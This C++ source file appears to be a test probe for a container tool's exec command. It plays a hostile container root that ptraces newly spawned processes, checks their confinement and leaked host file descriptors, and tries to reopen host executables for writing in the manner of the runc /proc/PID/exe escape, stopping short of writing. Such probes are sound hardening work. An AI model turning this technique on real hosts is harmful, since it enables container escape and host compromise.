// SPDX-License-Identifier: GPL-3.0-or-later
// cvirt-exec-racer: what a hostile root inside a container does to the processes `cvirsh exec`
// makes (issue 14, escape 1). It watches ns_last_pid and catches each new process of its pid
// namespace as early as it can: PTRACE_SEIZE + PTRACE_INTERRUPT, then compares the catch's
// confinement (seccomp mode, no_new_privs, capabilities) with its own, looks for descriptors
// that lead to files, and keeps an O_PATH descriptor of each executable that is not one of
// the container's own files. When STOPFILE appears it tries to reopen each of those
// executables for writing (the runc /proc/PID/exe attack; nothing is written) and writes
//   caught=N ptraced=P unconfined=U hostfds=H foreignexe=F exewritable=W
// to OUTFILE, followed by a line per finding. Static: runs in the busybox root.
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <set>
#include <sstream>
#include <string>
#include <vector>

namespace {

struct Confinement {
    int seccomp = -1, nnp = -1;
    unsigned long long capEff = 0, capBnd = 0;
};

Confinement confinementOf(const std::string& pid) {
    Confinement c;
    std::ifstream in("/proc/" + pid + "/status");
    std::string line;
    while (std::getline(in, line)) {
        auto value = [&](const char* key) -> const char* {
            size_t n = std::strlen(key);
            return line.compare(0, n, key) == 0 ? line.c_str() + n : nullptr;
        };
        if (const char* v = value("Seccomp:")) c.seccomp = std::atoi(v);
        if (const char* v = value("NoNewPrivs:")) c.nnp = std::atoi(v);
        if (const char* v = value("CapEff:")) c.capEff = std::strtoull(v, nullptr, 16);
        if (const char* v = value("CapBnd:")) c.capBnd = std::strtoull(v, nullptr, 16);
    }
    return c;
}

long nowMs() {
    timespec ts{};
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

struct Findings {
    int caught = 0, ptraced = 0, unconfined = 0, hostfds = 0, foreignexe = 0, exewritable = 0;
    std::vector<std::string> notes;
    std::vector<int> exes;
    std::set<std::pair<dev_t, ino_t>> exeSeen;
};

void inspect(const std::string& pid, const Confinement& mine, Findings& f) {
    Confinement c = confinementOf(pid);
    if (c.seccomp < 0) return;  // gone already, or not ours to read
    ++f.caught;
    if (c.seccomp < mine.seccomp || c.nnp < mine.nnp || (c.capEff & ~mine.capBnd) != 0 ||
        (c.capBnd & ~mine.capBnd) != 0) {
        ++f.unconfined;
        char buf[160];
        std::snprintf(buf, sizeof buf, "unconfined pid %s: seccomp %d nnp %d capeff %llx",
                      pid.c_str(), c.seccomp, c.nnp, c.capEff);
        f.notes.push_back(buf);
    }
    std::string fdDir = "/proc/" + pid + "/fd";
    if (DIR* d = opendir(fdDir.c_str())) {
        while (dirent* e = readdir(d)) {
            if (e->d_name[0] == '.' || std::atoi(e->d_name) < 3) continue;
            char link[512] = {};
            if (readlink((fdDir + "/" + e->d_name).c_str(), link, sizeof link - 1) <= 0) continue;
            if (link[0] == '/' && std::strncmp(link, "/dev/", 5) != 0 &&
                std::strncmp(link, "/proc/", 6) != 0) {
                ++f.hostfds;
                f.notes.push_back("pid " + pid + " fd " + e->d_name + " -> " + link);
            }
        }
        closedir(d);
    }
    // The executable: one the container cannot reach by its own paths is the host's.
    int exe = open(("/proc/" + pid + "/exe").c_str(), O_PATH | O_CLOEXEC);
    if (exe < 0) return;
    struct stat st {
    }, here{};
    char path[512] = {};
    if (fstat(exe, &st) < 0 ||
        readlink(("/proc/" + pid + "/exe").c_str(), path, sizeof path - 1) < 0 ||
        (stat(path, &here) == 0 && here.st_dev == st.st_dev && here.st_ino == st.st_ino) ||
        !f.exeSeen.insert({st.st_dev, st.st_ino}).second) {
        close(exe);
        return;
    }
    ++f.foreignexe;
    f.notes.push_back("pid " + pid + " runs a host executable: " + path);
    f.exes.push_back(exe);
}

void catchPid(const std::string& pid, const Confinement& mine, Findings& f) {
    pid_t p = std::atoi(pid.c_str());
    bool traced = ptrace(PTRACE_SEIZE, p, 0, 0) == 0;
    if (traced) {
        ++f.ptraced;
        ptrace(PTRACE_INTERRUPT, p, 0, 0);
        int status = 0;
        waitpid(p, &status, __WALL);
    }
    inspect(pid, mine, f);
    if (traced) ptrace(PTRACE_DETACH, p, 0, 0);
}

}  // namespace

int main(int argc, char** argv) {
    if (argc != 3) {
        std::fprintf(stderr, "usage: cvirt-exec-racer STOPFILE OUTFILE\n");
        return 2;
    }
    std::string self = std::to_string(getpid());
    Confinement mine = confinementOf(self);
    int last = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
    if (last < 0) {
        std::perror("ns_last_pid");
        return 1;
    }
    Findings f;
    std::set<std::string> seen{self};
    long deadline = nowMs() + 120000;
    for (unsigned long spin = 0;; ++spin) {
        char buf[32] = {};
        if (pread(last, buf, sizeof buf - 1, 0) > 0) {
            std::string pid = std::to_string(std::atoi(buf));
            if (seen.insert(pid).second) catchPid(pid, mine, f);
        }
        if (spin % 256 == 0 && (access(argv[1], F_OK) == 0 || nowMs() > deadline)) break;
    }
    for (int exe : f.exes) {
        // Busy while some process still runs it (the exec that told us to stop): wait for that.
        std::string self = "/proc/self/fd/" + std::to_string(exe);
        int w = -1;
        for (long until = nowMs() + 5000; (w = open(self.c_str(), O_WRONLY | O_CLOEXEC)) < 0 &&
                                          errno == ETXTBSY && nowMs() < until;)
            usleep(10000);
        if (w >= 0) {
            ++f.exewritable;
            f.notes.push_back("a host executable opened for writing (nothing written)");
            close(w);
        } else {
            f.notes.push_back(std::string("host executable not writable: ") + std::strerror(errno));
        }
    }
    std::ostringstream out;
    out << "caught=" << f.caught << " ptraced=" << f.ptraced << " unconfined=" << f.unconfined
        << " hostfds=" << f.hostfds << " foreignexe=" << f.foreignexe
        << " exewritable=" << f.exewritable << "\n";
    for (const auto& n : f.notes)
        out << n << "\n";
    std::string tmp = std::string(argv[2]) + ".tmp";
    std::ofstream(tmp) << out.str();
    return rename(tmp.c_str(), argv[2]) == 0 ? 0 : 1;
}
